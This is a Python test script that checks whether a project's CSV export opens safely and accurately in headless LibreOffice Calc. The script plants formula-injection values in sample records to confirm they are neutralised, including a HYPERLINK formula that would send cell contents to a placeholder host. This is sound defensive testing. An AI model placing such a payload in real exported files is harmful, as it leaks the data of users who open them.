"""Do the CSV export's files open right in a real spreadsheet? LibreOffice Calc, headless.

Run from the repo root::

    python bench/csv_in_spreadsheet.py          # a table of checks and a summary line
    python bench/csv_in_spreadsheet.py --json   # ... ending with bench_summary's JSON line

It needs LibreOffice's ``soffice``. Where it is missing, the script installs
Debian's ``libreoffice-calc-nogui`` with apt-get when it runs as root and
apt-get is there; otherwise it says it cannot and exits with status 2.

It imports ``samples/`` into a temporary database (as the first run of
``hmip-review`` does) and, through the store as a reviewer would, gives a few
records the values a spreadsheet gets wrong: curly quotes and ``…`` (the
samples are plain ASCII), and texts that look like formulas (``=HYPERLINK(…)``,
``+44 …``, ``@SUM(…)``, a target ``- ongoing``). The samples already hold rec_no
values such as ``5.10``. It exports the database to CSV and has LibreOffice
convert every file to .xlsx twice (``soffice --headless --convert-to xlsx``):

* **as README tells a user to open them**: Unicode (UTF-8), comma, ``"`` as the
  text delimiter, English number format, "Format quoted field as text"
  (``--infilter="Text - txt - csv (StarCalc):44,34,76,1,,1033,true,false"``);
* **with LibreOffice's defaults** (no import options), the case the formula
  neutralisation is for: a user who opens a file without looking.

It then reads each workbook's cells from its XML (standard library only) and
checks them against the CSV as Python's csv module reads it. .xlsx is the
target because its XML tells what LibreOffice made of each cell: text or
number, and whether it holds a formula (``<f>``). The exit status is 1 if a
check fails: these are correctness checks, not timings, which is also why
``run_all.py`` does not run this script (it may install a system package, and
it has no figure to set beside a floor).
"""

from __future__ import annotations

import argparse
import csv
import math
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
if __package__ in (None, ""):  # run as a file (python bench/x.py): import from the repository root
    sys.path.insert(0, str(ROOT))

from bench.bench_summary import emit, target  # noqa: E402

SOFFICE_PACKAGE = "libreoffice-calc-nogui"
# The import options README gives: comma, ", UTF-8 (76), from line 1, no column
# types, English (1033: "." is the decimal point), quoted field as text, no
# special-number detection.
README_FILTER = "Text - txt - csv (StarCalc):44,34,76,1,,1033,true,false"
CURLY = ("’", "‘", "“", "”", "…", "–")
PLANTED_NOTE = "Prisoners’ cells … “really” clean — ‘soon’."
PLANTED = {
    "note": '=HYPERLINK("http://example.invalid/?"&A1,"Click me")',
    "response": "+44 20 7946 0000",
    "concern": "@SUM(1+1)",
}
PLANTED_TARGET = "- ongoing"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@dataclass
class Check:
    """One row of the table: what was checked, what was found, and whether it is right."""

    name: str
    found: str
    met: bool | None  # None: shown for information (LibreOffice's defaults)


# --- LibreOffice ---------------------------------------------------------------------


def find_or_install_soffice() -> str | None:
    """The path of ``soffice``, installing LibreOffice Calc first where it can."""
    found = shutil.which("soffice")
    if found:
        return found
    if os.geteuid() != 0 or not shutil.which("apt-get"):
        why = "not root" if os.geteuid() != 0 else "no apt-get"
        print(
            f"cannot install LibreOffice ({why}): install {SOFFICE_PACKAGE} (or any LibreOffice "
            "with soffice on PATH) and run this again",
            file=sys.stderr,
        )
        return None
    print(f"installing {SOFFICE_PACKAGE} with apt-get …", flush=True)
    env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
    install = ["apt-get", "install", "-y", "--no-install-recommends", SOFFICE_PACKAGE]
    if subprocess.run(install, env=env).returncode != 0:
        subprocess.run(["apt-get", "update"], env=env, check=False)
        subprocess.run(install, env=env, check=False)
    return shutil.which("soffice")


def convert(soffice: str, files: list[Path], out: Path, profile: Path, infilter: str | None):
    """Convert ``files`` to .xlsx in ``out`` with one headless LibreOffice, its own profile."""
    command = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", "xlsx", "--outdir", str(out), *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300)
    missing = [f.name for f in files if not (out / f"{f.stem}.xlsx").exists()]
    if done.returncode != 0 or missing:
        raise RuntimeError(f"soffice failed ({done.returncode}) on {missing}: {done.stderr}")


# --- reading a workbook ----------------------------------------------------------------


@dataclass
class Cell:
    kind: str  # 'text' | 'number' | 'other'
    value: str
    formula: str | None


def workbook_cells(path: Path) -> dict[tuple[int, int], Cell]:
    """The first sheet's cells by (row, column), both from 0, as LibreOffice saved them."""
    with zipfile.ZipFile(path) as book:
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            for item in ET.fromstring(book.read("xl/sharedStrings.xml")).iter(f"{MAIN}si"):
                shared.append("".join(t.text or "" for t in item.iter(f"{MAIN}t")))
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for c in sheet.iter(f"{MAIN}c"):
        letters, digits = re.fullmatch(r"([A-Z]+)(\d+)", c.get("r")).groups()
        column = 0
        for letter in letters:
            column = column * 26 + ord(letter) - 64
        kind, v, f = c.get("t", "n"), c.find(f"{MAIN}v"), c.find(f"{MAIN}f")
        value = v.text or "" if v is not None else ""
        if kind == "s":
            kind, value = "text", shared[int(value)]
        elif kind == "inlineStr":
            kind, value = "text", "".join(t.text or "" for t in c.iter(f"{MAIN}t"))
        elif kind == "str":
            kind = "text"
        elif kind == "n":
            kind = "number"
        cells[int(digits) - 1, column - 1] = Cell(kind, value, f.text if f is not None else None)
    return cells


def csv_cells(path: Path) -> list[list[str | float]]:
    """The CSV as Python reads it: a quoted field a str, an unquoted one a float ('' if empty)."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, quoting=csv.QUOTE_NONNUMERIC))


def same(expected: str | float, cell: Cell | None) -> bool:
    if expected == "":
        return cell is None or cell.value == ""
    if cell is None:
        return False
    if isinstance(expected, float):
        return cell.kind == "number" and math.isclose(float(cell.value), expected, rel_tol=1e-12)
    return cell.kind == "text" and cell.value == expected and cell.formula is None


# --- the samples ----------------------------------------------------------------------


def samples_database(path: Path) -> None:
    """Import samples/ into ``path`` and give a few records values a spreadsheet mangles."""
    from store import open_db
    from store.ingest.pipeline import import_files
    from store.review.changes import update_action, update_recommendation

    samples = sorted(p for p in (ROOT / "samples").iterdir() if p.suffix != ".md")
    report = import_files(path, samples)
    if not report.ok:
        raise RuntimeError(f"importing samples/ into {path}: {report.failed} files failed")
    db = open_db(path)
    try:
        recs = [r for (r,) in db.execute("SELECT id FROM recommendations ORDER BY id LIMIT 3")]
        update_recommendation(db, "bench", recs[0], **PLANTED)
        update_recommendation(db, "bench", recs[1], note=PLANTED_NOTE)
        action = db.execute(
            "SELECT a.id FROM actions a JOIN recommendations r ON r.id = a.recommendation_id "
            "WHERE a.status = 'open' AND r.agreement = 'Agreed' ORDER BY a.id LIMIT 1"
        ).fetchone()[0]
        update_action(db, "bench", action, target=PLANTED_TARGET)
    finally:
        db.close()


# --- the checks -----------------------------------------------------------------------


def run_checks(soffice: str, work: Path) -> list[Check]:
    """Export the samples to CSV, open every file in LibreOffice both ways, check the cells."""
    from store.reports.export import export_database
    from store.reports.export_csv import SPREADSHEET_CELL_LIMIT

    db_path = work / "samples.db"
    samples_database(db_path)
    folder = work / "samples.csv"
    export_database(db_path, folder)
    files = sorted(folder.glob("*.csv"))
    for name, infilter in (("readme", README_FILTER), ("default", None)):
        convert(soffice, files, work / name, work / f"profile-{name}", infilter)

    table = {f.stem: csv_cells(f) for f in files}
    readme = {f.stem: workbook_cells(work / "readme" / f"{f.stem}.xlsx") for f in files}
    default = {f.stem: workbook_cells(work / "default" / f"{f.stem}.xlsx") for f in files}

    def cells(predicate):
        return [
            (name, (r, c), value)
            for name, rows in table.items()
            for r, row in enumerate(rows)
            for c, value in enumerate(row)
            if predicate(value)
        ]

    def wrong(found, where):
        return [(n, rc, v) for n, rc, v in found if not same(v, where[n].get(rc))]

    every = cells(lambda v: True)
    curly = cells(lambda v: isinstance(v, str) and any(ch in v for ch in CURLY))
    tens = cells(lambda v: isinstance(v, str) and re.fullmatch(r"\d+\.\d*0", v) is not None)
    formulas = cells(lambda v: isinstance(v, str) and v.startswith("'") and len(v) > 1)
    longest = max((len(v) for _, _, v in every if isinstance(v, str)), default=0)
    header, *documents = table["documents"]
    stored = _stored_texts(db_path)
    texts_ok = len(documents) == len(stored) > 0 and all(
        _read_exactly(folder / row[header.index("text_file")]) == stored[int(row[0])]
        for row in documents
    )
    planted = {PLANTED_NOTE, *("'" + v for v in PLANTED.values()), "'" + PLANTED_TARGET}
    found_planted = {v for _, _, v in every if v in planted}

    def evaluated(where):
        return sum(cell.formula is not None for book in where.values() for cell in book.values())

    def show(found, bad):
        return f"{len(found) - len(bad)} of {len(found)} cells"

    bad_every, bad_curly, bad_tens = wrong(every, readme), wrong(curly, readme), wrong(tens, readme)
    checks = [
        Check("values planted in the samples are in the CSV", f"{len(found_planted)} of "
              f"{len(planted)}", found_planted == planted),
        Check("README options: every cell as Python's csv reads it", show(every, bad_every),
              not bad_every),
        Check("README options: curly quotes and … intact", show(curly, bad_curly),
              bool(curly) and not bad_curly),
        Check("README options: 5.10 still 5.10 (text)", show(tens, bad_tens),
              bool(tens) and not bad_tens),
        Check("README options: formula-looking cells shown as text, none run",
              f"{len(formulas)} neutralised; {evaluated(readme)} formulas",
              bool(formulas) and not wrong(formulas, readme) and evaluated(readme) == 0),
        Check("defaults: formula-looking cells shown as text, none run",
              f"{len(formulas)} neutralised; {evaluated(default)} formulas",
              bool(formulas) and not wrong(formulas, default) and evaluated(default) == 0),
        Check(f"no cell over {SPREADSHEET_CELL_LIMIT:,} characters; none cut short",
              f"longest {longest:,}; {len(bad_every)} differ",
              longest <= SPREADSHEET_CELL_LIMIT and not bad_every),
        Check("documents/<id>.txt hold each document's text exactly",
              f"{len(documents)} files", texts_ok),
        Check("defaults (for information): 5.10 still 5.10",
              show(tens, wrong(tens, default)), None),
        Check("defaults (for information): curly quotes and … intact",
              show(curly, wrong(curly, default)), None),
    ]  # fmt: skip
    return checks


def _stored_texts(db_path: Path) -> dict[int, str]:
    import sqlite3

    conn = sqlite3.connect(db_path)
    try:
        return dict(conn.execute("SELECT id, text FROM documents"))
    finally:
        conn.close()


def _read_exactly(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as fh:
        return fh.read()


def print_table(checks: list[Check]) -> None:
    width = max(len(c.name) for c in checks)
    found = max(len(c.found) for c in checks)
    print(f"{'check':<{width}}  {'found':<{found}}  verdict")
    for c in checks:
        verdict = {True: "ok", False: "FAILED", None: "(info)"}[c.met]
        print(f"{c.name:<{width}}  {c.found:<{found}}  {verdict}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--json", action="store_true", help="end with a summary line (run_all)")
    args = parser.parse_args(argv)
    soffice = find_or_install_soffice()
    if soffice is None:
        return 2
    version = subprocess.run([soffice, "--version"], capture_output=True, text=True).stdout
    print(f"{version.strip()} ({soffice})", flush=True)
    started = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="hmip-csv-spreadsheet-") as work:
        checks = run_checks(soffice, Path(work))
    seconds = time.perf_counter() - started
    print_table(checks)
    judged = [c for c in checks if c.met is not None]
    passed = sum(c.met for c in judged)
    print(
        f"{passed} of {len(judged)} checks passed in LibreOffice ({seconds:.0f} s: import, "
        "export, two conversions of every CSV file)"
    )
    if args.json:
        emit(
            "csv_in_spreadsheet",
            [target(c.name, c.found, goal=None if c.met is None else "ok", met=c.met)
             for c in checks],
        )  # fmt: skip
    return 0 if passed == len(judged) else 1


if __name__ == "__main__":
    sys.exit(main())
